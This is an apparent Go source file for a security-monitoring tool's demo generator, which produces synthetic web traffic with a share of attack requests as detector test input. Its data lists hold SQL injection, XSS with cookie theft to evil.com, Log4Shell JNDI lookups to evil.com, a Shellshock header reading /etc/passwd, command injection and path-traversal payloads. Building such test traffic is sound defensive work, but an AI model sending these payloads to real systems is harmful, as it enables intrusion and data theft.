package input

import (
	"context"
	"fmt"
	"math/rand"
	"sync"
	"sync/atomic"
	"time"

	"github.com/rs/zerolog/log"

	"github.com/vigilsec/vigil/internal/domain"
)

// DemoGenerator produces a synthetic request stream with a configurable
// fraction of attack traffic. Attackers come from a small IP pool and
// reuse identities, so behavioral detection has something to latch onto.
type DemoGenerator struct {
	rate          int
	bufferSize    int
	attackPercent int
	mu            sync.Mutex
	running       bool
	stopChan      chan struct{}
	generated     atomic.Uint64

	normalIPs   []string
	attackerIPs []string
	normalPaths []string
	attackPaths []attackPath
	normalUAs   []string
	attackerUAs []string

	bodyPayloads   []string
	headerPayloads []map[string]string
	userIDs        []string
}

type attackPath struct {
	endpoint string
	query    map[string]string
}

type DemoConfig struct {
	Rate          int
	BufferSize    int
	AttackPercent int
}

func DefaultDemoConfig() DemoConfig {
	return DemoConfig{
		Rate:          200,
		BufferSize:    10000,
		AttackPercent: 15,
	}
}

func NewDemoGenerator(config DemoConfig) *DemoGenerator {
	if config.Rate <= 0 {
		config.Rate = 200
	}
	if config.BufferSize <= 0 {
		config.BufferSize = 10000
	}
	if config.AttackPercent < 0 || config.AttackPercent > 100 {
		config.AttackPercent = 15
	}

	return &DemoGenerator{
		rate:          config.Rate,
		bufferSize:    config.BufferSize,
		attackPercent: config.AttackPercent,
		stopChan:      make(chan struct{}),
		normalIPs:     generateIPPool(2000, []string{"192.168.", "10.0.", "10.1.", "172.16.", "100.64.", "100.65."}),
		attackerIPs:   generateIPPool(20, []string{"45.33.", "185.220.", "89.234."}),
		normalPaths: []string{
			"/", "/index.html", "/about", "/contact", "/products", "/services",
			"/api/users", "/api/products", "/api/orders", "/api/v1/health",
			"/login", "/register", "/dashboard", "/profile", "/settings",
			"/cart", "/checkout", "/search", "/blog",
		},
		attackPaths: []attackPath{
			{"/search", map[string]string{"q": "' OR 1=1--"}},
			{"/products", map[string]string{"id": "1 UNION SELECT * FROM users--"}},
			{"/api/users", map[string]string{"filter": "1; DROP TABLE users;--"}},
			{"/login", map[string]string{"user": "admin'--"}},
			{"/comment", map[string]string{"text": "<script>alert('XSS')</script>"}},
			{"/search", map[string]string{"q": "<img onerror=alert(1) src=x>"}},
			{"/profile", map[string]string{"bio": "<svg onload=alert(1)>"}},
			{"/../../../etc/passwd", nil},
			{"/files/../../etc/shadow", nil},
			{"/.env", nil},
			{"/api/ping", map[string]string{"host": ";cat /etc/passwd"}},
			{"/search", map[string]string{"q": "|whoami"}},
			{"/debug", map[string]string{"cmd": "`id`"}},
			{"/file", map[string]string{"name": "..%2f..%2f..%2fetc%2fpasswd"}},
			{"/wp-admin/", nil},
			{"/phpmyadmin/", nil},
			{"/.git/HEAD", nil},
		},
		normalUAs: []string{
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
			"Mozilla/5.0 (Macintosh; Intel Mac OS X) Safari/17.0",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/121.0",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Mobile Safari",
			"Mozilla/5.0 (Linux; Android 14) Chrome/120.0 Mobile",
		},
		attackerUAs: []string{
			"sqlmap/1.7.11#stable",
			"Nikto/2.1.6",
			"DirBuster-1.0-RC1",
			"WPScan v3.8.25",
			"python-requests/2.31.0",
			"masscan/1.3.2",
		},
		bodyPayloads: []string{
			`{"username":"admin","password":"' OR '1'='1"}`,
			`{"query":"SELECT * FROM users WHERE id=1; DROP TABLE users;--"}`,
			`{"search":"1' UNION SELECT username,password FROM users--"}`,
			`username=admin&password=' OR '1'='1&submit=Login`,
			`search=<script>document.location='http://evil.com/'+document.cookie</script>`,
			`comment=<img src=x onerror="eval(atob('YWxlcnQoJ1hTUycp'))">`,
		},
		headerPayloads: []map[string]string{
			{"x-forwarded-for": "${jndi:ldap://evil.com/exploit}"},
			{"referer": "${jndi:rmi://evil.com:1099/obj}"},
			{"user-agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
			{"x-forwarded-host": "evil.com\r\nX-Injected: malicious"},
		},
		userIDs: []string{
			"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
		},
	}
}

func (g *DemoGenerator) Start(ctx context.Context) (<-chan *domain.RequestContext, <-chan error) {
	requestChan := make(chan *domain.RequestContext, g.bufferSize)
	errChan := make(chan error, 10)

	g.mu.Lock()
	if g.running {
		g.mu.Unlock()
		close(requestChan)
		return requestChan, errChan
	}
	g.running = true
	g.stopChan = make(chan struct{})
	g.mu.Unlock()

	go func() {
		defer close(requestChan)
		defer close(errChan)

		log.Info().Int("rate", g.rate).Int("attack_percent", g.attackPercent).Msg("Demo generator started")

		interval := time.Second / time.Duration(g.rate)
		if interval < time.Millisecond {
			interval = time.Millisecond
		}

		ticker := time.NewTicker(interval)
		defer ticker.Stop()

		rng := rand.New(rand.NewSource(time.Now().UnixNano()))

		for {
			select {
			case <-ctx.Done():
				log.Info().Uint64("total_generated", g.generated.Load()).Msg("Demo generator stopped (context cancelled)")
				return
			case <-g.stopChan:
				log.Info().Uint64("total_generated", g.generated.Load()).Msg("Demo generator stopped")
				return
			case <-ticker.C:
				req := g.generateRequest(rng)
				select {
				case requestChan <- req:
					g.generated.Add(1)
				default:
				}
			}
		}
	}()

	return requestChan, errChan
}

func (g *DemoGenerator) generateRequest(rng *rand.Rand) *domain.RequestContext {
	req := &domain.RequestContext{
		Timestamp: time.Now().UTC(),
	}

	if rng.Intn(100) < g.attackPercent {
		req.IP = g.attackerIPs[rng.Intn(len(g.attackerIPs))]
		req.UserAgent = g.attackerUAs[rng.Intn(len(g.attackerUAs))]

		switch rng.Intn(4) {
		case 0:
			ap := g.attackPaths[rng.Intn(len(g.attackPaths))]
			req.Method = "GET"
			req.Endpoint = ap.endpoint
			req.Query = ap.query

		case 1:
			req.Method = "POST"
			req.Endpoint = "/api/login"
			req.Body = g.bodyPayloads[rng.Intn(len(g.bodyPayloads))]

		case 2:
			req.Method = "GET"
			req.Endpoint = g.normalPaths[rng.Intn(len(g.normalPaths))]
			payload := g.headerPayloads[rng.Intn(len(g.headerPayloads))]
			req.Headers = make(map[string]string, len(payload))
			for k, v := range payload {
				req.Headers[k] = v
			}

		case 3:
			// Credential stuffing against a shared account.
			req.Method = "POST"
			req.Endpoint = "/login"
			req.UserID = g.userIDs[rng.Intn(2)]
			req.Body = fmt.Sprintf(`{"username":%q,"password":"guess%d"}`, req.UserID, rng.Intn(1000))
			req.Headers = map[string]string{"x-auth-result": "failure"}
		}
	} else {
		req.IP = g.normalIPs[rng.Intn(len(g.normalIPs))]
		req.Endpoint = g.normalPaths[rng.Intn(len(g.normalPaths))]
		req.UserAgent = g.normalUAs[rng.Intn(len(g.normalUAs))]
		if rng.Intn(4) == 0 {
			req.UserID = g.userIDs[rng.Intn(len(g.userIDs))]
		}

		methods := []string{"GET", "GET", "GET", "POST", "PUT"}
		req.Method = methods[rng.Intn(len(methods))]
	}

	req.Normalize()
	return req
}

func (g *DemoGenerator) Stop() error {
	g.mu.Lock()
	defer g.mu.Unlock()

	if !g.running {
		return nil
	}

	close(g.stopChan)
	g.running = false

	return nil
}

func (g *DemoGenerator) IsRunning() bool {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.running
}

func (g *DemoGenerator) Generated() uint64 {
	return g.generated.Load()
}

func generateIPPool(count int, prefixes []string) []string {
	ips := make([]string, 0, count)
	perPrefix := count / len(prefixes)
	remainder := count % len(prefixes)

	for i, prefix := range prefixes {
		n := perPrefix
		if i < remainder {
			n++
		}
		for j := 0; j < n; j++ {
			third := (j / 254) % 254
			fourth := j%254 + 1
			ips = append(ips, fmt.Sprintf("%s%d.%d", prefix, third, fourth))
		}
	}

	return ips
}
